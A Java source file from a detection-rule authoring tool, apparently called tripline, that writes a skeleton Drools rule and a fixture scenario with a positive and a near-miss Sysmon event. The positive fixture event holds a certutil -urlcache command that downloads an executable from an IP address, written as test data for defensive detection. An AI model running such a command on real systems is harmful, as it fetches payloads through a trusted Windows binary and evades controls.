package dev.tripline.authoring;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileAlreadyExistsException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.UUID;
import java.util.regex.Pattern;

/**
 * What {@code tripline new-rule NAME} writes: a detection rule with every annotation the engine checks and a
 * fresh UUID {@code @id}, and a fixture scenario for it — a positive event that must raise the rule's alert and
 * a near miss that must not.
 *
 * <p>Red first: the rule's condition is a placeholder that matches nothing, so {@code tripline validate} passes
 * and {@code tripline test} fails on the new scenario (the expected alert is missing) until the author writes
 * the real condition. The DRL carries, commented out, a condition that makes the example pass.
 */
public final class RuleSkeleton {
    public static final Pattern NAME = Pattern.compile("[a-z0-9][a-z0-9_-]*");
    public static final Pattern PACKAGE = Pattern.compile("[a-z_][a-z0-9_]*(\\.[a-z_][a-z0-9_]*)*");
    /** The placeholder condition; the generated rule matches no event until it is replaced. */
    public static final String PLACEHOLDER = "commandLineLower == \"todo: write the condition\"";
    /** The example condition, commented out in the skeleton, that makes the generated scenario pass. */
    public static final String EXAMPLE = "imageLower str[endsWith] \"\\\\certutil.exe\", commandLineLower contains \" -urlcache\"";

    /** The files written. */
    public record Written(Path drl, Path scenario, String id) {}

    private RuleSkeleton() {}

    /** Writes both; refuses (FileAlreadyExistsException) if either exists, and then writes nothing. */
    public static Written write(String name, String packageName, Path rulesDir, Path fixturesDir) throws IOException {
        if (!NAME.matcher(name).matches()) {
            throw new IllegalArgumentException("rule name '" + name + "': use lower-case letters, digits, '-' and '_' (e.g. certutil-download)");
        }
        if (!PACKAGE.matcher(packageName).matches()) {
            throw new IllegalArgumentException("package '" + packageName + "': use lower-case dotted names (e.g. tripline.detection.custom)");
        }
        Path drl = rulesDir.resolve(packageName.replace('.', '/')).resolve(name + ".drl");
        Path scenario = fixturesDir.resolve(name);
        if (Files.exists(drl)) throw new FileAlreadyExistsException(drl + " (not overwritten)");
        if (Files.exists(scenario)) throw new FileAlreadyExistsException(scenario + " (not overwritten)");

        String id = UUID.randomUUID().toString();
        Files.createDirectories(drl.getParent());
        Files.createDirectories(scenario);
        Files.writeString(drl, drl(name, packageName, id), StandardCharsets.UTF_8);
        Files.writeString(scenario.resolve("events.jsonl"), events(), StandardCharsets.UTF_8);
        Files.writeString(scenario.resolve("expected-alerts.jsonl"),
                "{\"kind\": \"detection\", \"rule\": {\"id\": \"" + id + "\"}, \"severity\": \"medium\", \"host\": \"ws01.corp.local\", "
                        + "\"user\": \"CORP\\\\alice\", \"reasons\": [], \"events\": [{\"line\": 1}]}\n", StandardCharsets.UTF_8);
        Files.writeString(scenario.resolve("scenario.yaml"), "description: >-\n"
                + "  " + name + ": line 1 is the positive example (certutil -urlcache, a download) and must raise the rule's alert; line 2 is\n"
                + "  the near miss (certutil -hashfile) and must raise none. Replace both with real events of what the rule detects.\n",
                StandardCharsets.UTF_8);
        return new Written(drl, scenario, id);
    }

    static String drl(String name, String packageName, String id) {
        return "package " + packageName + ";\n\n"
                + "// TODO: what this rule detects, why it matters, and where it comes from (e.g. a Sigma rule id).\n"
                + "// Fixture: fixtures/" + name + "/ (a positive event and a near miss). Run: tripline validate && tripline test\n\n"
                + "import dev.tripline.model.ProcessEvent;\n"
                + "import dev.tripline.model.Detection;\n\n"
                + "rule \"" + name + "\"\n"
                + "    @id( \"" + id + "\" )\n"
                + "    @title( \"TODO: a one-line title for the alert\" )\n"
                + "    @level( \"medium\" )\n"
                + "    @tags( \"attack.discovery, attack.t1033\" )\n"
                + "    @falsepositives( \"TODO: known benign causes\" )\n"
                + "when\n"
                + "    $e : ProcessEvent(\n"
                + "        // TODO: the condition. Until it is written the rule matches nothing and `tripline test` fails.\n"
                + "        // Fields: imageLower, originalFileNameLower, commandLineLower, parentImageLower, actor, host, ...\n"
                + "        // (folded to lower case). The generated fixture passes with:\n"
                + "        //   " + EXAMPLE + "\n"
                + "        " + PLACEHOLDER + "\n"
                + "    )\n"
                + "then\n"
                + "    insert( Detection.of( drools.getRule().getName(), drools.getRule().getMetaData(), $e ) );\n"
                + "end\n";
    }

    static String events() {
        ObjectMapper m = new ObjectMapper();
        StringBuilder out = new StringBuilder();
        for (var ev : List.of(List.of("09:00:00", "4000", "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe"), List.of("09:01:00", "4001", "certutil.exe -hashfile a.exe SHA256"))) {
            ObjectNode o = m.createObjectNode();
            o.put("ProviderName", "Microsoft-Windows-Sysmon");
            o.put("EventID", 1);
            o.put("Channel", "Microsoft-Windows-Sysmon/Operational");
            o.put("Computer", "ws01.corp.local");
            o.put("UtcTime", "2024-03-05 " + ev.get(0) + ".000");
            o.put("ProcessId", ev.get(1));
            o.put("Image", "C:\\Windows\\System32\\certutil.exe");
            o.put("OriginalFileName", "CertUtil.exe");
            o.put("CommandLine", ev.get(2));
            o.put("CurrentDirectory", "C:\\Users\\alice\\");
            o.put("User", "CORP\\alice");
            o.put("LogonId", "0x3c21d");
            o.put("IntegrityLevel", "High");
            o.put("ParentProcessId", "3100");
            o.put("ParentImage", "C:\\Windows\\System32\\cmd.exe");
            o.put("ParentCommandLine", "C:\\Windows\\System32\\cmd.exe");
            out.append(o).append('\n');
        }
        return out.toString();
    }
}
